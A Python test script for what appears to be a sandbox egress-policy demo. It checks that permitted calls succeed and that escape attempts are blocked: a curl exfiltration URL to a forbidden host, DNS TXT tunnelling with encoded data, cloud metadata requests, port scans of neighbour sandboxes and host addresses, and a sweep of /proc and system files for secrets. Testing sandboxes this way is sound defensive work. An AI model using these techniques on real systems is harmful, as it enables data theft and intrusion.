"""The demo's agent: ordinary code with ordinary clients, and then every way out it can think of.

It holds a placeholder, never a key. Each line of its output is one thing it tried and what it
saw; the demo compares that with what the servers on the other side saw.
"""
import concurrent.futures
import glob
import json
import os
import re
import socket
import struct
import subprocess
import sys

import requests

lab = json.loads(os.environ["DEMO"])
failures = 0


def tell(check, ok, saw):
    """Print one finding, as one line."""
    global failures
    failures += not ok
    saw = " ".join(str(saw).split())
    print(f"{'ok  ' if ok else 'FAIL'} {check:<34} {saw[:600]}", flush=True)


def run(*argv):
    done = subprocess.run(argv, capture_output=True, text=True, timeout=60)
    return done.returncode, done.stdout + done.stderr


def refused(check, call, reason):
    """A refusal is a 403 that says why, in words, with the reason a reviewer can look up."""
    try:
        r = call()
        ok = r.status_code == 403 and r.headers.get("Sallyport-Reason") == reason and "Blocked by sandbox" in r.text
        tell(check, ok, f"{r.status_code} {r.headers.get('Sallyport-Reason')}")
        return r
    except requests.RequestException as e:
        tell(check, False, repr(e))


def silent_udp(address, port, data=b"out?"):
    """Send a datagram and listen: nothing may come back."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1.0)
        try:
            s.sendto(data, (address, port))
            answer, _ = s.recvfrom(2048)
            return f"answered {answer[:40]!r}"
        except socket.timeout:
            return None
        except OSError as e:
            return None if e.errno else repr(e)


def dns_query(server, name, qtype):
    """One query by hand; returns (rcode, number of answers) or None."""
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    packet = struct.pack(">HHHHHH", 0x5A11, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", qtype, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        s.sendto(packet, (server, 53))
        answer, _ = s.recvfrom(2048)
    _, flags, _, answers, _, _ = struct.unpack(">HHHHHH", answer[:12])
    return flags & 15, answers


def greeting(address, port):
    """What a TCP port says: a banner, an answer to a line, or nothing."""
    try:
        with socket.create_connection((address, port), timeout=2) as s:
            s.settimeout(2)
            s.sendall(b"who is there\r\n\r\n")
            return s.recv(200).decode("latin-1")
    except OSError:
        return ""


def allowed():
    print("-- what the policy allows", flush=True)
    token = os.environ["API_TOKEN"]
    r = requests.get(f"https://{lab['api']}/v1/whoami", headers={"Authorization": f"Bearer {token}"}, timeout=20)
    tell("requests: call the API", r.status_code == 200, f"{r.status_code}, with a placeholder of {len(token)} characters")
    r = requests.post(f"https://{lab['api']}/v1/charges", headers={"Authorization": f"Bearer {token}"}, json={"amount": 5}, timeout=20)
    tell("requests: POST to an allowed path", r.status_code in (200, 201), r.status_code)
    code, out = run("curl", "-sS", "--fail", "-o", "/tmp/file", "-w", "%{http_code} %{size_download} bytes", f"https://{lab['files']}{lab['file_path']}")
    tell("curl: download", code == 0, out)
    code, out = run("git", "clone", "-q", f"https://{lab['files']}{lab['git_path']}", "/tmp/clone")
    tell("git: clone over https", code == 0 and os.path.exists("/tmp/clone/.git"), out or f"{len(os.listdir('/tmp/clone'))} entries")


def denied():
    print("-- what it does not", flush=True)
    r = refused("a forbidden domain", lambda: requests.get(f"https://{lab['forbidden']}/", timeout=20), "host_not_allowed")
    if r is not None:
        print("     " + r.text.strip(), flush=True)
    code, out = run("curl", "-sS", f"https://{lab['forbidden']}/steal?data=1")
    tell("the same with curl", "Blocked by sandbox egress policy" in out, "its screen shows the sentence")
    auth = {"Authorization": "Bearer " + os.environ["API_TOKEN"]}
    refused("a wrong method", lambda: requests.delete(f"https://{lab['api']}/v1/charges/1", headers=auth, timeout=20), "method_not_allowed")
    refused("a wrong path", lambda: requests.get(f"https://{lab['api']}/v1/refunds", headers=auth, timeout=20), "path_not_allowed")
    refused("the placeholder sent elsewhere", lambda: requests.get(f"https://{lab['files']}{lab['file_path']}", headers=auth, timeout=20), "placeholder_leak")
    direct = {"http": None, "https": None}
    refused("the metadata address", lambda: requests.get("http://169.254.169.254/latest/meta-data/", proxies=direct, timeout=20), "address_not_allowed")
    refused("the metadata address, by proxy", lambda: requests.get("http://169.254.169.254/latest/meta-data/", timeout=20), "address_not_allowed")
    r = subprocess.run(["curl", "-sSk", "--noproxy", "*", "-i", f"https://{lab['raw_ip']}/"], capture_output=True, text=True, timeout=30)
    tell("a raw public address", "address_not_allowed" in r.stdout, "address_not_allowed" if "address_not_allowed" in r.stdout else r.stdout + r.stderr)


def silent():
    print("-- what has no way out at all", flush=True)
    for what, address, port in (("a public address", lab["raw_ip"], 4433), ("the gateway", lab["gateway"], 9999), ("a neighbour", lab["neighbour"], 5353)):
        saw = silent_udp(address, port)
        tell(f"UDP to {what}", saw is None, saw or "no answer")
    for server in (lab["gateway"], lab["raw_ip"], "9.9.9.9"):
        rcode, answers = dns_query(server, "c2VjcmV0LWRhdGE.exfil." + lab["forbidden"], 16)
        tell(f"TXT query through {server}", answers == 0, f"rcode {rcode}, {answers} answers")
    with concurrent.futures.ThreadPoolExecutor(64) as pool:
        said = dict(zip(lab["neighbour_ports"], pool.map(lambda p: greeting(lab["neighbour"], p), lab["neighbour_ports"])))
        tell("a neighbour sandbox", not any("NEIGHBOUR" in s for s in said.values()), f"{len(said)} ports, none of its answers")


def ports():
    print("-- every port of the host other than the gateway's own", flush=True)
    with concurrent.futures.ThreadPoolExecutor(64) as pool:
        own = {53, 3128}
        ports = [p for p in lab["host_ports"] if p not in own]
        for address in [lab["gateway"], *lab["host_addresses"]]:
            said = dict(zip(ports, pool.map(lambda p: greeting(address, p), ports)))
            found = [p for p, s in said.items() if s and "Sallyport" not in s]
            tell(f"ports of {address}", not found, f"{len(ports)} tried, {found or 'none answers for itself'}")


SECRET = re.compile(lab["secret_shape"].encode())


def secrets():
    print("-- what it can find", flush=True)
    placeholder = os.environ["API_TOKEN"].encode()
    hits = []
    places = [("environment", "\0".join(f"{k}={v}" for k, v in os.environ.items()).encode())]
    roots = ["/etc", "/run", "/tmp", "/workspace", "/home", "/var", "/opt", "/srv", "/root"]
    names = glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline")
    for root in roots:
        for folder, _, files in os.walk(root):
            names += [os.path.join(folder, f) for f in files]
    readable = 0
    for name in names:
        try:
            with open(name, "rb") as f:
                places.append((name, f.read(1 << 20)))
            readable += 1
        except OSError:
            pass
    r = requests.get(f"https://{lab['api']}/v1/reflect", headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]}, timeout=20)
    places.append(("an API answer that repeats the key", r.content + str(r.headers).encode()))
    for where, data in places:
        for m in SECRET.finditer(data):
            if m.group() != placeholder:
                hits.append((where, m.group()[:12]))
    tell("no secret anywhere", not hits and r.status_code == 200, f"{readable} files, environment, /proc, answers: {hits or 'only the placeholder'}")
    try:
        os.listdir("/proc/1/fd")
        tell("/proc/1 is closed", False, "its descriptors can be listed")
    except OSError as e:
        tell("/proc/1 is closed", True, e.strerror)


for part in {"work": (allowed, denied, silent, secrets), "scan": (ports,)}[sys.argv[1]]:
    try:
        part()
    except Exception as e:  # the demo must see what went wrong, not a half-finished run
        tell(part.__name__, False, repr(e))
print(f"-- {failures} of my expectations did not hold" if failures else "-- everything as it should be", flush=True)
sys.exit(1 if failures else 0)
